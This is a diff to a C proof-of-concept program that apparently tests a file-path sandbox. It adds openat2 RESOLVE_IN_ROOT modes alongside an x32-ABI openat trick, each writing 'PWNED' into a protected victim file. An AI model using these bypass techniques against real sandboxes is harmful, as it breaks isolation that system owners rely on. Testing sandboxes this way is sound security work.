@@ -9,6 +9,7 @@
 #include <sys/stat.h>
 #include <sys/mman.h>
 #include <sys/syscall.h>
+#include <linux/openat2.h>
 int main(int argc, char **argv) {
   const char *base = argv[1];  // BASE (the tracee's view)
   const char *mode = argv[2];
@@ -51,6 +52,18 @@ int main(int argc, char **argv) {
     snprintf(p, sizeof p, "%s/victim", base);
     long fd = syscall(0x40000000 | 257, AT_FDCWD, p, O_WRONLY|O_APPEND, 0);
     printf("x32 openat %ld\n", fd);
+    if (fd >= 0) write(fd, "PWNED\n", 6);
+  } else if (!strcmp(mode, "inroot") || !strcmp(mode, "inroot-slash")) {
+    /* openat2 RESOLVE_IN_ROOT from a directory above BASE: "/<name>/victim" is BASE/victim there */
+    char parent[4096], rel[4096];
+    strcpy(parent, base);
+    *strrchr(parent, '/') = 0;
+    if (!strcmp(mode, "inroot-slash")) { strcpy(parent, "/"); snprintf(rel, sizeof rel, "%s/victim", base); }
+    else snprintf(rel, sizeof rel, "%s/victim", strrchr(base, '/'));
+    int d = open(parent, O_RDONLY | O_DIRECTORY);
+    struct open_how how = {.flags = O_WRONLY | O_APPEND, .resolve = RESOLVE_IN_ROOT};
+    long fd = syscall(SYS_openat2, d, rel, &how, sizeof how);
+    printf("openat2 %ld\n", fd);
     if (fd >= 0) write(fd, "PWNED\n", 6);
   } else if (!strcmp(mode, "race")) {
     // handled separately
